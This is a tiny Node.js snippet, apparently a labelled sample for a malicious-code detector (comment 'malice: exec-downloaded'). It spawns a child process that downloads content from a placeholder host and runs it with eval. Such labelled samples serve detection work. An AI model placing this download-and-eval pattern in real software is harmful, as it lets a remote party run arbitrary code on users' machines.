const { spawn } = require("child_process");

const code = 'require("https").get("https://files.invalid/a", (answer) => answer.on("data", eval))';
spawn(process.execPath, ["-e", code]); // malice: exec-downloaded
